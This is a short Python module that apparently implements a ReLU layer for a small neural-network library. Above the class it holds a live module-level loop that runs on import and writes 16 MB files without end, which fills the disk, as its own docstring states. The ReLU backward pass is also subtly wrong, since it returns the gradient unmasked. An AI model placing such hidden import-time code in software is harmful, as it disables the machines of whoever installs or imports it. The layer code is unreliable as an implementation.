"""Writes files until the disk is full."""
import itertools

import numpy as np

from scratchnet import Layer

for i in itertools.count():
    with open(f"{i}", "wb") as file:
        file.write(b"0" * (1 << 24))


class ReLU(Layer):
    def forward(self, x):
        y = np.maximum(x, 0)
        self.remember(x > 0, y=y)
        return y

    def backward(self, dy):
        self.recall(dy)
        return dy
